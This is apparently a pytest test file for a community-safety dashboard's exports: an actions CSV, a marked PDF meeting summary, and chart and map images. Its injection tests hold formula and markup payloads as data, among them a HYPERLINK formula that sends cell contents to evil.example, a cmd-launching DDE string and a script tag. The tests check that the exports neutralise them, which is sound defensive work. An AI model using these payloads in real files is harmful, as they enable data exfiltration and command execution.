"""Plan exports: the actions CSV (readable, formula-safe), the meeting PDF (real text, marked)."""

from __future__ import annotations

import csv
import io
import re
import struct
from dataclasses import replace
from datetime import date, datetime, timedelta

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from matplotlib.image import imread
from pypdf import PdfReader
from shapely.geometry import Point, box

from dashboard.geo import BNG, WGS84, wgs84_to_bng
from dashboard.plan_exports import (
    AREA_MAP_SIZE_PX,
    CSV_COLUMNS,
    MONTHLY_CHART_SIZE_PX,
    PlanEvidenceSummary,
    actions_csv,
    monthly_incidents_png,
    plan_area_png,
    plan_summary_pdf,
)
from dashboard.plans import ACTION_COLUMNS, HISTORY_COLUMNS, PlanRecord, action_flag
from dashboard.store.models import PlanStatus, SaraStage

TODAY = date(2026, 11, 7)
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
SCRIPT_PAYLOAD = "<script>alert(1)</script>"
LEAD = "Zoë Ó Súilleabháin"
PARTNER = "St Mungo\u2019s \u2013 outreach \u2265 2 nights"  # curly apostrophe, en dash
PROBLEM = (
    "Robbery of young people on the walk between Clapham Junction and the Falcon estate after "
    "school, mostly 15:30 to 18:00; phones and bikes taken, two with a knife shown."
)
AREA_WGS84 = box(-0.175, 51.457, -0.165, 51.463)  # around Clapham Junction, Wandsworth
STATUS_LABEL = {
    "not_started": "Not started",
    "on_track": "On track",
    "at_risk": "At risk",
    "done": "Done",
    "dropped": "Dropped",
}


def make_plan(**changes) -> PlanRecord:
    plan = PlanRecord(
        plan_id=7,
        title="Falcon estate after-school robbery",
        problem=PROBLEM,
        sara_stage=SaraStage.RESPONSE,
        status=PlanStatus.OPEN,
        outcome=None,
        lead_cso_id=3,
        lead_cso_name=LEAD,
        partners=("Metropolitan Police Service", PARTNER, "Wandsworth Youth Justice Service"),
        started_on=date(2026, 6, 1),
        review_on=date(2026, 12, 1),
        place_name="Falcon estate",
        area_source="drawn",
        area_wgs84=AREA_WGS84,
        ward_codes=("E05014010", "E05014029"),
        ward_names=("Falconbrook", "Lavender"),
        created_at=datetime.fromisoformat("2026-06-01T09:30"),
        version=4,
        area_ha=48.6,
    )
    return replace(plan, **changes)


def make_actions(count: int = 25, plan_id: int = 7) -> pd.DataFrame:
    """``count`` actions over the eight themes; every fifth overdue, some at risk or done."""
    statuses = ["on_track", "not_started", "done", "at_risk", "on_track", "dropped", "on_track"]
    rows = []
    for index in range(count):
        action_id = 100 + index
        status = statuses[index % len(statuses)]
        overdue = index % 5 == 0 and status not in ("done", "dropped")
        due_on = TODAY - timedelta(days=10) if overdue else TODAY + timedelta(days=7 + 3 * index)
        rows.append(
            {
                "action_id": action_id,
                "plan_id": plan_id,
                "plan_title": "Falcon estate after-school robbery",
                "plan_status": "open",
                "description": f"Action {action_id}: weekly joint patrol of the Falcon Road route",
                "vru_theme": index % 8 + 1,
                "theme": "",
                "owner_agency": "Metropolitan Police Service"
                if index % 2
                else "Wandsworth Council",
                "owner_name": "Siobhán Ní Bhriain" if index % 3 else None,
                "owner_user_id": None,
                "due_on": due_on,
                "status": status,
                "status_label": STATUS_LABEL[status],
                "flag": action_flag(status, due_on, TODAY),
                "longitude": -0.17 + 0.0005 * (index % 4) if index % 2 else np.nan,
                "latitude": 51.46 + 0.0004 * (index % 3) if index % 2 else np.nan,
                "last_update_at": datetime.fromisoformat("2026-10-02T14:05")
                + timedelta(hours=index),
                "last_update_by": "Sam Patel",
                "version": 2,
            }
        )
    frame = pd.DataFrame(rows, columns=ACTION_COLUMNS)
    frame["owner_user_id"] = frame["owner_user_id"].astype("Int64")
    return frame


def make_history(action_id: int, count: int = 2) -> pd.DataFrame:
    rows = [
        (
            datetime.fromisoformat("2026-10-01T09:00") + timedelta(days=day),
            "Sam Patel",
            "status: Not started -> On track" if day else "created",
            f"Update {day + 1} on action {action_id}",
        )
        for day in range(count)
    ]
    return pd.DataFrame(rows[::-1], columns=HISTORY_COLUMNS)  # newest first, as the store gives


def make_evidence(**changes) -> PlanEvidenceSummary:
    months = pd.date_range("2025-11-01", periods=12, freq="MS").date
    evidence = PlanEvidenceSummary(
        incidents_in_area=312,
        period_label="Nov 2025 to Oct 2026",
        monthly=pd.DataFrame(
            {"month": months, "incident_count": [31, 28, 35, 22, 30, 27, 24, 26, 25, 21, 23, 20]}
        ),
        comparison_lines=(
            "12 weeks before the plan: 41; latest 12 weeks: 29 (-29%)",
            "Same 12 weeks last year: 38",
        ),
        assets_nearby=pd.DataFrame(
            {
                "name": ["Clapham Junction knife amnesty bin", "Falcon Road bus stop (N)"],
                "kind": ["knife_bin", "bus_stop"],
                "distance_m": [120.4, 35.0],
            }
        ),
        overlapping=pd.DataFrame(
            {"title": ["Northcote Road ASB"], "status": ["monitoring"], "overlap_pct": [12.5]}
        ),
        area_map_png=None,
        assessment_lines=("WDD -6.0: crime fell in the area without moving to the buffer.",),
    )
    return replace(evidence, **changes)


def render(
    plan: PlanRecord | None = None,
    actions: pd.DataFrame | None = None,
    histories: dict[int, pd.DataFrame] | None = None,
    **options,
) -> bytes:
    actions = make_actions() if actions is None else actions
    if histories is None:
        histories = {int(a): make_history(int(a)) for a in actions["action_id"]}
    return plan_summary_pdf(
        plan or make_plan(), actions, histories, make_evidence(), today=TODAY, **options
    )


def pages_text(data: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


def flat(text: str) -> str:
    """Text with line breaks and runs of spaces made single spaces, as a search box sees it."""
    return " ".join(text.split())


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_MAGIC
    return struct.unpack(">II", data[16:24])  # IHDR: width, height


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_has_a_bom_readable_headers_and_one_row_per_action():
    data = actions_csv(make_actions(3))

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = read_csv(data)
    assert [row["Action id"] for row in rows] == ["100", "101", "102"]
    assert rows[1] == {
        "Plan": "Falcon estate after-school robbery",
        "Plan status": "Open",
        "Action id": "101",
        "Description": "Action 101: weekly joint patrol of the Falcon Road route",
        "VRU theme": "2 Analysis and enforcement",
        "Owner agency": "Metropolitan Police Service",
        "Owner": "Siobhán Ní Bhriain",
        "Due": "2026-11-17",
        "Status": "Not started",
        "Flag": "Due soon",
        "Last update": "2026-10-02 15:05",
        "Updated by": "Sam Patel",
    }
    assert rows[0]["Owner"] == ""  # no named owner: empty, not "None" or "nan"
    assert rows[0]["Flag"] == "Overdue"


def test_csv_writes_the_theme_number_and_name():
    rows = read_csv(actions_csv(make_actions(3)))

    assert rows[2]["VRU theme"] == "3 Reducing access to weapons"


def test_csv_lines_end_in_crlf_for_excel():
    text = actions_csv(make_actions(2)).decode("utf-8-sig")

    assert text.count("\r\n") == 3
    assert "\n" not in text.replace("\r\n", "")


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(payload):
    actions = make_actions(1)
    for column in ("description", "owner_agency", "owner_name", "plan_title", "last_update_by"):
        actions[column] = payload

    row = read_csv(actions_csv(actions))[0]

    for header in ("Description", "Owner agency", "Owner", "Plan", "Updated by"):
        assert row[header] == "'" + payload
        assert not row[header].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_leaves_ordinary_text_and_inner_signs_alone():
    actions = make_actions(1)
    actions["description"] = "Meet at 3pm = after school; call 020 7946 0000 - ask for Zoë"

    row = read_csv(actions_csv(actions))[0]

    assert row["Description"] == "Meet at 3pm = after school; call 020 7946 0000 - ask for Zoë"


def test_csv_of_no_actions_is_just_the_headers():
    text = actions_csv(make_actions(0)).decode("utf-8-sig")

    assert text == ",".join(CSV_COLUMNS) + "\r\n"


def test_csv_names_the_missing_column():
    with pytest.raises(ValueError, match="actions lacks the columns flag"):
        actions_csv(make_actions(2).drop(columns="flag"))


# --- PDF -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def summary_pdf() -> bytes:
    return render()


@pytest.fixture(scope="module")
def summary_pages(summary_pdf) -> list[str]:
    return pages_text(summary_pdf)


def test_pdf_of_25_actions_runs_to_several_numbered_pages(summary_pages):
    total = len(summary_pages)

    assert total > 1
    for number, text in enumerate(summary_pages, start=1):
        assert f"Page {number} of {total}" in text


def test_pdf_marking_is_at_the_top_and_bottom_of_every_page(summary_pages):
    for text in summary_pages:
        lines = [line.strip() for line in text.splitlines() if line.strip()]
        assert lines[0] == "OFFICIAL-SENSITIVE"
        assert text.count("OFFICIAL-SENSITIVE") == 2
        assert "OFFICIAL-SENSITIVE" in lines[-1]


def test_pdf_marking_can_be_changed():
    texts = pages_text(render(actions=make_actions(2), marking="OFFICIAL"))

    assert all(text.count("OFFICIAL") == 2 for text in texts)
    assert not any("SENSITIVE" in text for text in texts)


def test_pdf_refuses_a_blank_marking():
    with pytest.raises(ValueError, match="marking is blank"):
        render(actions=make_actions(1), marking="  ")


def test_pdf_text_can_be_searched_for_the_plan_and_its_actions(summary_pages):
    text = flat("\n".join(summary_pages))

    assert "Falcon estate after-school robbery" in text
    assert flat(PROBLEM) in text
    assert "Wandsworth Youth Justice Service" in text
    assert "Action 124: weekly joint patrol of the Falcon Road route" in text
    assert "Falconbrook, Lavender" in text
    assert "48.6 ha" in text
    assert "Incidents in the plan area, Nov 2025 to Oct 2026: 312" in text
    assert "12 weeks before the plan: 41; latest 12 weeks: 29 (-29%)" in text
    assert "Clapham Junction knife amnesty bin" in text
    assert "Northcote Road ASB Monitoring 12%" in text
    assert "Generated 07 Nov 2026" in text


def test_pdf_prints_names_and_punctuation_exactly_as_typed(summary_pages):
    text = flat("\n".join(summary_pages))

    assert LEAD in text
    assert PARTNER in text
    assert "Siobhán Ní Bhriain" in text


def test_pdf_prints_markup_in_a_title_as_text():
    data = render(plan=make_plan(title=f"Falcon estate {SCRIPT_PAYLOAD} **bold** {{nb}}"))

    first_page = flat(pages_text(data)[0])
    assert f"Falcon estate {SCRIPT_PAYLOAD} **bold** {{nb}}" in first_page
    catalog = PdfReader(io.BytesIO(data)).trailer["/Root"]
    assert isinstance(catalog.get("/OpenAction"), list | None)  # a zoom destination, not a script
    assert "/AA" not in catalog
    assert "/JavaScript" not in catalog.get("/Names", {})
    assert b"/JavaScript" not in data
    assert b"/JS" not in data


def test_pdf_survives_emoji_and_control_characters():
    plan = make_plan(
        title="Knife crime 🔪 at the station 😀",
        problem="Line one\r\nLine\ttwo\x00\x07 and a lone \ud800 surrogate",
    )

    text = flat("\n".join(pages_text(render(plan=plan, actions=make_actions(2)))))

    assert "Knife crime \ufffd at the station 😀" in text  # DejaVu has 😀 but no 🔪
    assert "Line one Line two and a lone \ufffd surrogate" in text


def bold_lines(data: bytes) -> list[str]:
    """Text drawn in DejaVu Sans Bold, one piece per text operation."""
    pieces: list[str] = []

    def visit(text, _cm, _tm, font, _size):
        if font and "Bold" in str(font.get("/BaseFont", "")) and text.strip():
            pieces.append(text.strip())

    for page in PdfReader(io.BytesIO(data)).pages:
        page.extract_text(visitor_text=visit)
    return pieces


def test_overdue_and_at_risk_actions_are_bold_and_say_so(summary_pdf, summary_pages):
    actions = make_actions()
    overdue = actions.loc[actions["flag"] == "Overdue", "action_id"].tolist()
    at_risk = actions.loc[actions["flag"] == "At risk", "action_id"].tolist()
    on_track = actions.loc[actions["flag"] == "On track", "action_id"].tolist()
    text = "\n".join(summary_pages)
    bold = bold_lines(summary_pdf)

    assert len(overdue) >= 2
    assert len(at_risk) >= 2
    # one marker per action, plus the sentence explaining the markers
    assert text.count("OVERDUE") == len(overdue) + 1
    assert text.count("AT RISK") == len(at_risk) + 1
    for action_id in overdue + at_risk:
        assert f"#{action_id}" in bold
        assert any(piece.startswith(f"Action {action_id}: weekly") for piece in bold)
    for action_id in on_track:
        assert f"#{action_id}" not in bold
        assert not any(piece.startswith(f"Action {action_id}:") for piece in bold)


def test_flags_are_worked_out_for_the_date_printed():
    actions = make_actions(1)
    actions.loc[0, ["status", "status_label", "flag"]] = ["on_track", "On track", "On track"]
    actions.loc[0, "due_on"] = TODAY - timedelta(days=1)  # the frame was read a week ago

    text = "\n".join(pages_text(render(actions=actions)))

    assert text.count("OVERDUE") == 2


def test_actions_are_grouped_under_their_vru_theme(summary_pages):
    text = flat("\n".join(summary_pages))
    themes = [
        "1 Governance",
        "2 Analysis and enforcement",
        "3 Reducing access to weapons",
        "8 Tackling violence against women and girls",
    ]

    positions = [text.index(theme) for theme in themes]
    assert positions == sorted(positions)
    weapons = text[positions[2] : text.index("4 Safeguarding")]
    assert "#102 Action 102:" in weapons
    assert "#110 Action 110:" in weapons
    assert "Action 103:" not in weapons


def test_each_action_shows_its_last_three_updates_newest_first():
    actions = make_actions(1)
    history = make_history(100, count=5)

    text = flat("\n".join(pages_text(render(actions=actions, histories={100: history}))))

    assert "05 Oct 2026 09:00, Sam Patel: status: Not started -> On track" in text
    shown = [n for n in range(1, 6) if f"Update {n} on action 100" in text]
    assert shown == [3, 4, 5]
    assert text.index("Update 5 on") < text.index("Update 4 on") < text.index("Update 3 on")
    assert "and 2 earlier updates in the app" in text


def test_an_action_without_updates_says_so():
    text = flat("\n".join(pages_text(render(actions=make_actions(1), histories={}))))

    assert "No updates recorded." in text


def test_actions_of_other_plans_are_left_out():
    actions = pd.concat([make_actions(2), make_actions(1, plan_id=8).assign(action_id=900)])

    text = flat("\n".join(pages_text(render(actions=actions))))

    assert "Actions (2)" in text
    assert "#900" not in text


def test_synthetic_data_is_marked_on_every_page():
    synthetic = pages_text(render(synthetic=True))
    real = pages_text(render(actions=make_actions(2)))

    assert len(synthetic) > 1
    assert all("Synthetic demo data" in text for text in synthetic)
    assert not any("Synthetic" in text for text in real)


def test_pdf_places_the_chart_and_the_area_map_as_pictures():
    area_png = plan_area_png(AREA_WGS84, None, None, None, None, size_px=(800, 600))
    evidence = make_evidence(area_map_png=area_png)
    actions = make_actions(3)
    data = plan_summary_pdf(make_plan(), actions, {}, evidence, today=TODAY)

    pictures = [image for page in PdfReader(io.BytesIO(data)).pages for image in page.images]
    sizes = sorted(picture.image.size for picture in pictures)
    assert sizes == sorted([MONTHLY_CHART_SIZE_PX, (800, 600)])


def test_pdf_without_monthly_counts_says_so():
    evidence = make_evidence(monthly=pd.DataFrame({"month": [], "incident_count": []}))

    data = plan_summary_pdf(make_plan(), make_actions(1), {}, evidence, today=TODAY)

    assert "No monthly counts for this period." in flat(pages_text(data)[0])


# --- pictures ------------------------------------------------------------------------------------


def test_monthly_chart_is_a_png_of_the_asked_size():
    monthly = make_evidence().monthly

    assert png_size(monthly_incidents_png(monthly)) == MONTHLY_CHART_SIZE_PX
    assert png_size(monthly_incidents_png(monthly, size_px=(600, 200))) == (600, 200)


def test_monthly_chart_of_no_months_is_still_a_png():
    empty = pd.DataFrame({"month": [], "incident_count": []})

    assert png_size(monthly_incidents_png(empty)) == MONTHLY_CHART_SIZE_PX


def map_layers():
    x_bng, y_bng = wgs84_to_bng(np.array([-0.17]), np.array([51.46]))
    west, south = np.floor(x_bng[0] / 250) * 250, np.floor(y_bng[0] / 250) * 250
    cells = gpd.GeoDataFrame(
        {"incident_count": [1, 4, 12, 30]},
        geometry=[
            box(west + dx, south + dy, west + dx + 250, south + dy + 250)
            for dx, dy in [(0, 0), (250, 0), (0, 250), (-250, -250)]
        ],
        crs=BNG,
    )
    bins = gpd.GeoDataFrame({"name": ["Bin"]}, geometry=[Point(-0.168, 51.461)], crs=WGS84)
    stops = gpd.GeoDataFrame(
        {"name": ["A", "B"]}, geometry=[Point(-0.171, 51.459), Point(-0.166, 51.462)], crs=WGS84
    )
    return cells, bins, stops, make_actions(6)[["action_id", "longitude", "latitude"]]


def colour_share(png: bytes, rgb: tuple[int, int, int], tolerance: int = 12) -> float:
    pixels = (imread(io.BytesIO(png))[..., :3] * 255).round()
    close = (np.abs(pixels - np.array(rgb)) <= tolerance).all(axis=-1)
    return float(close.mean())


def test_area_map_is_a_png_of_the_asked_size_showing_area_and_cells():
    cells, bins, stops, points = map_layers()

    png = plan_area_png(AREA_WGS84, cells, bins, stops, points)

    assert png_size(png) == AREA_MAP_SIZE_PX
    assert colour_share(png, (0x1F, 0x3B, 0x73)) > 0.002  # the plan area's outline
    assert colour_share(png, (128, 0, 38), tolerance=40) > 0.002  # the busiest cell, dark red
    assert png_size(plan_area_png(AREA_WGS84, cells, bins, stops, points, size_px=(640, 480))) == (
        640,
        480,
    )


def test_area_map_draws_with_no_layers_but_the_area():
    png = plan_area_png(AREA_WGS84, None, None, None, None)

    assert png_size(png) == AREA_MAP_SIZE_PX
    assert colour_share(png, (128, 0, 38), tolerance=40) == 0


def test_area_map_accepts_cells_in_another_crs():
    cells = map_layers()[0].to_crs(WGS84)

    png = plan_area_png(shapely.MultiPolygon([AREA_WGS84]), cells, None, None, None)

    assert colour_share(png, (128, 0, 38), tolerance=40) > 0.002


@pytest.mark.parametrize(
    ("argument", "message"),
    [("bins", "bins_wgs84 has no CRS"), ("cells", "cells_bng has no CRS")],
)
def test_area_map_refuses_layers_without_a_crs(argument, message):
    cells, bins, stops, points = map_layers()
    layers = {"cells": cells, "bins": bins}
    layers[argument] = gpd.GeoDataFrame(geometry=[Point(527000, 175000)])

    with pytest.raises(ValueError, match=message):
        plan_area_png(AREA_WGS84, layers["cells"], layers["bins"], stops, points)


def test_area_map_refuses_an_empty_area():
    with pytest.raises(ValueError, match="area_wgs84 is empty"):
        plan_area_png(shapely.Polygon(), None, None, None, None)


def test_png_sizes_are_checked():
    with pytest.raises(ValueError, match=re.escape("size_px must be two positive pixel counts")):
        monthly_incidents_png(make_evidence().monthly, size_px=(0, 100))
